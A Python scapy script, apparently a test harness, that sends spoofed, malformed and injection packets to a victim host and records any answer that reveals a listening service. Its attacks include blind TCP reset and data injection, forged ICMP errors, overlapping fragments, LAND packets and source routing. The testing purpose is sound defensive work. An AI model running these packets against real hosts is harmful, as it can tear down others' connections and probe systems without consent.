"""Packets that no honest stack sends, by scapy: each line on standard input names an attack and the seconds to listen for an answer; each line on
standard output says how many packets were sent and what the attacked host answered.

    packets.py INTERFACE LINK-ADDRESS ATTACKER-V4 ATTACKER-V6 VICTIM-V4 VICTIM-V6 FRIEND-V4 FRIEND-V6 PORT FRIEND-PORT-V4 FRIEND-PORT-V6

The victim's PU listens on PORT; the friend may call it, and has a connection from each of its ports.
"""

import json
import random
import sys
import time

from scapy.all import (
    AsyncSniffer, Ether, ICMP, ICMPv6DestUnreach, ICMPv6PacketTooBig, IP, IPOption_LSRR, IPOption_SSRR, IPv6,
    IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, PadN, Raw, TCP, UDP, conf, fragment, raw,
)

conf.verb = 0
interface, link, me4, me6, victim4, victim6, friend4, friend6 = sys.argv[1:9]
port, friend_port4, friend_port6 = map(int, sys.argv[9:12])
socket = conf.L2socket(iface=interface)
ether = Ether(dst=link)
random.seed(1)

PROBES = 8
GUESSES = 300


def number():
    return random.getrandbits(32)


def syn(**fields):
    return TCP(sport=random.randint(1024, 65535), dport=port, flags="S", seq=number(), **fields)


def both(build):
    """The same from the attacker's own address of either family."""
    return [packet for _ in range(PROBES) for packet in (IP(src=me4, dst=victim4) / build(), IPv6(src=me6, dst=victim6) / build())]


def plain_syn():
    return both(syn)


def spoofed_source():
    return [packet for _ in range(PROBES) for packet in (IP(src=friend4, dst=victim4) / syn(), IPv6(src=friend6, dst=victim6) / syn())]


def identity(kind):
    """Our option with random contents: experiment identifier, version and type, flags, handle, index, MAC."""
    body = bytes([0x5A, 0x54, 0x10 | kind, 0]) + random.randbytes(14)
    return [(254, body)]


def random_identity():
    return [packet for kind in range(1, 9) for packet in (
        IP(src=me4, dst=victim4) / syn(options=identity(kind)), IPv6(src=me6, dst=victim6) / syn(options=identity(kind)))]


def hello_garbage():
    return [packet for _ in range(PROBES) for packet in (
        IP(src=me4, dst=victim4) / syn(options=identity(1)) / Raw(random.randbytes(900)),
        IPv6(src=me6, dst=victim6) / syn(options=identity(1)) / Raw(random.randbytes(900)))]


def connection(flags, payload=b""):
    """Segments on the friend's living connections, at guessed sequence numbers."""
    packets = []
    for _ in range(GUESSES):
        segment = dict(dport=port, flags=flags, seq=number(), ack=number(), window=1000)
        packets.append(IP(src=friend4, dst=victim4) / TCP(sport=friend_port4, **segment) / Raw(payload))
        packets.append(IPv6(src=friend6, dst=victim6) / TCP(sport=friend_port6, **segment) / Raw(payload))
    return packets


def data_injection():
    return connection("PA", b"injected")


def reset_injection():
    return connection("R") + connection("RA")


def syn_injection():
    return connection("S")


def icmp_injection():
    packets = []
    for _ in range(PROBES):
        quote4 = raw(IP(src=victim4, dst=friend4) / TCP(sport=port, dport=friend_port4, seq=number()))[:28]
        quote6 = raw(IPv6(src=victim6, dst=friend6) / TCP(sport=port, dport=friend_port6, seq=number()))
        for code in (1, 2, 3, 9, 10, 13):
            packets.append(IP(src=me4, dst=victim4) / ICMP(type=3, code=code) / Raw(quote4))
        packets.append(IP(src=me4, dst=victim4) / ICMP(type=3, code=4, nexthopmtu=68) / Raw(quote4))
        for code in (0, 1, 3, 4):
            packets.append(IPv6(src=me6, dst=victim6) / ICMPv6DestUnreach(code=code) / Raw(quote6))
        packets.append(IPv6(src=me6, dst=victim6) / ICMPv6PacketTooBig(mtu=100) / Raw(quote6))
    return packets


def tiny_fragments():
    packets = []
    for _ in range(PROBES):
        identification = random.getrandbits(16)
        packets += fragment(IP(src=me4, dst=victim4, id=identification) / syn() / Raw(b"x" * 32), fragsize=8)
        segment = raw(IPv6(src=me6, dst=victim6) / syn() / Raw(b"x" * 32))[40:]
        for offset in range(0, len(segment), 8):
            more = int(offset + 8 < len(segment))
            header = IPv6ExtHdrFragment(nh=6, offset=offset // 8, m=more, id=identification)
            packets.append(IPv6(src=me6, dst=victim6) / header / Raw(segment[offset:offset + 8]))
    return packets


def overlapping_fragments():
    """The second fragment rewrites the ports of the first, as old reassemblers let it."""
    packets = []
    for _ in range(PROBES):
        identification = random.getrandbits(16)
        harmless = raw(TCP(sport=1024, dport=9, flags="S", seq=number()) / Raw(b"x" * 12))
        real = raw(TCP(sport=1024, dport=port, flags="S", seq=number()) / Raw(b"x" * 12))
        for offset, more, part in ((0, 1, harmless[:24]), (0, 1, real[:24]), (1, 0, real[8:])):
            packets.append(IP(src=me4, dst=victim4, id=identification, proto=6, flags="MF" if more else 0, frag=offset) / Raw(part))
            header = IPv6ExtHdrFragment(nh=6, offset=offset, m=more, id=identification)
            packets.append(IPv6(src=me6, dst=victim6) / header / Raw(part))
    return packets


def options_overrun():
    """Options that claim more bytes than there are, or none at all."""
    packets = []
    for options in (b"\xfe\xff\xfa\xce", b"\xfe\x00\xfa\xce", b"\x02\x28\x00\x00", b"\xfe\x01\x01\x01", b"\x01\x01\xfe\x14"):
        for ip in (IP(src=me4, dst=victim4), IPv6(src=me6, dst=victim6)):
            segment = bytearray(raw(ip / syn(dataofs=6))[len(raw(ip)):][:20] + options)
            segment[12] = 6 << 4
            packets.append(checked(ip, segment))
    return packets


def long_header():
    """A TCP header that says it is longer, or shorter, than the packet allows."""
    packets = []
    for words in (0, 1, 4, 6, 10, 15):
        for ip in (IP(src=me4, dst=victim4), IPv6(src=me6, dst=victim6)):
            segment = bytearray(raw(ip / syn())[len(raw(ip)):][:20])
            segment[12] = words << 4
            packets.append(checked(ip, segment))
    return packets


def checked(ip, segment):
    """`segment` behind `ip` with the right checksum: only the check of the header can find out."""
    from scapy.layers.inet import in4_chksum
    from scapy.layers.inet6 import in6_chksum
    segment[16:18] = b"\0\0"
    ip = ip.copy()
    if isinstance(ip, IP):
        ip.proto = 6
        total = in4_chksum(6, IP(raw(ip / Raw(bytes(segment)))), bytes(segment))
    else:
        ip.nh = 6
        total = in6_chksum(6, IPv6(raw(ip / Raw(bytes(segment)))), bytes(segment))
    segment[16:18] = total.to_bytes(2, "big")
    return ip / Raw(bytes(segment))


def extension_headers():
    """Headers before the real one: one of each kind, many, and the one that routes."""
    base = IPv6(src=me6, dst=victim6)
    padding = dict(options=[PadN(optdata=b"\0" * 4)])
    chains = [
        IPv6ExtHdrHopByHop(**padding), IPv6ExtHdrDestOpt(**padding), IPv6ExtHdrFragment(id=7),
        IPv6ExtHdrRouting(type=0, addresses=[victim6]), IPv6ExtHdrDestOpt(**padding) / IPv6ExtHdrHopByHop(**padding),
    ]
    many = IPv6ExtHdrDestOpt(**padding)
    for _ in range(11):
        many = many / IPv6ExtHdrDestOpt(**padding)
    return [base / chain / syn() for chain in chains + [many] for _ in range(PROBES)]


def source_routing():
    return [IP(src=me4, dst=victim4, options=[option(routers=[me4, victim4])]) / syn()
            for option in (IPOption_LSRR, IPOption_SSRR) for _ in range(PROBES)]


def land():
    return [packet for _ in range(PROBES) for packet in (
        IP(src=victim4, dst=victim4) / TCP(sport=port, dport=port, flags="S", seq=number()),
        IPv6(src=victim6, dst=victim6) / TCP(sport=port, dport=port, flags="S", seq=number()),
        IP(src="127.0.0.1", dst=victim4) / syn(), IPv6(src="::1", dst=victim6) / syn())]


def odd_flags():
    """Every combination of flags, without connection."""
    return [packet for flags in range(64) for packet in (
        IP(src=me4, dst=victim4) / TCP(sport=4000 + flags, dport=port, flags=flags, seq=number(), ack=number()),
        IPv6(src=me6, dst=victim6) / TCP(sport=4000 + flags, dport=port, flags=flags, seq=number(), ack=number()))]


def datagrams():
    return both(lambda: UDP(sport=random.randint(1024, 65535), dport=port) / Raw(b"hello"))


ATTACKS = {attack.__name__: attack for attack in (
    plain_syn, spoofed_source, random_identity, hello_garbage, data_injection, reset_injection, syn_injection, icmp_injection, tiny_fragments,
    overlapping_fragments, options_overrun, long_header, extension_headers, source_routing, land, odd_flags, datagrams)}


def gives_away(packet):
    """Whether an answer tells of the PU: something from its port, or an error that quotes what was sent to it."""
    return any(layer in packet and packet[layer].sport == port for layer in (TCP, UDP)) or is_error(raw(packet.payload))


def is_error(data):
    """An ICMP error that quotes a packet to the PU's port."""
    if data[0] >> 4 == 4 and data[9] == 1:
        inner = data[20 + 8:]
        header = (inner[0] & 15) * 4 if inner else 0
        return data[20] in (3, 11, 12) and len(inner) >= header + 4 and int.from_bytes(inner[header + 2:header + 4], "big") == port
    if data[0] >> 4 == 6 and data[6] == 58:
        inner = data[40 + 8:]
        return data[40] < 128 and inner[6:7] in (b"\x06", b"\x11") and int.from_bytes(inner[42:44], "big") == port
    return False


def main():
    print("READY", flush=True)
    for line in sys.stdin:
        name, seconds = line.split()
        packets = [ether / packet for packet in ATTACKS[name]()]
        sniffer = AsyncSniffer(iface=interface, filter=f"ether src {link}", lfilter=gives_away)
        sniffer.start()
        while not getattr(sniffer, "stop_cb", None):
            time.sleep(0.01)
        for packet in packets:
            socket.send(packet)
        time.sleep(float(seconds))
        answers = sniffer.stop()
        print(json.dumps({"sent": len(packets), "answers": [answer.summary() for answer in answers][:5]}), flush=True)


main()
